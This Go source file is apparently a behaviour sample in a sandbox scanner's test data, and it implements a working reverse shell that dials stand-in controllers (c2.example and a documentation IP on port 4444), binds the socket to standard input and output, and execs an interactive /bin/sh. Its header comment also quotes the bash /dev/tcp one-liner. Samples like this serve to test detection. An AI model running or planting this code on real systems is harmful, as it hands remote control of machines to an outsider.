// Command revshell imitates a classic reverse shell (bash -i >&
// /dev/tcp/host/4444 0>&1): it connects out to its controller, puts the
// socket on stdin, stdout and stderr, and replaces itself with an
// interactive /bin/sh. It tries a name, then a literal address, a few
// rounds, and gives up.
package main

import (
	"fmt"
	"net"
	"os"
	"syscall"
	"time"

	"golang.org/x/sys/unix"

	"github.com/sandscan/sandscan/testdata/behaviours/internal/guard"
)

var controllers = []string{"c2.example:4444", "198.51.100.23:4444"}

func main() {
	guard.Require("revshell")
	for round := range 3 {
		for _, c := range controllers {
			conn, err := net.DialTimeout("tcp", c, 2*time.Second)
			if err != nil {
				fmt.Fprintf(os.Stderr, "revshell: round %d: %v\n", round, err)
				continue
			}
			shell(conn.(*net.TCPConn))
		}
		time.Sleep(300 * time.Millisecond)
	}
	fmt.Fprintln(os.Stderr, "revshell: no controller reachable, giving up")
	os.Exit(1)
}

// shell only returns if something fails before the exec.
func shell(conn *net.TCPConn) {
	f, err := conn.File()
	if err != nil {
		fmt.Fprintln(os.Stderr, "revshell:", err)
		return
	}
	fd := int(f.Fd())
	// The shell does blocking reads on its stdin.
	unix.SetNonblock(fd, false)
	for _, target := range []int{0, 1, 2} {
		if err := unix.Dup3(fd, target, 0); err != nil {
			return
		}
	}
	err = syscall.Exec("/bin/sh", []string{"/bin/sh", "-i"}, os.Environ())
	fmt.Fprintln(os.Stderr, "revshell: exec:", err)
}
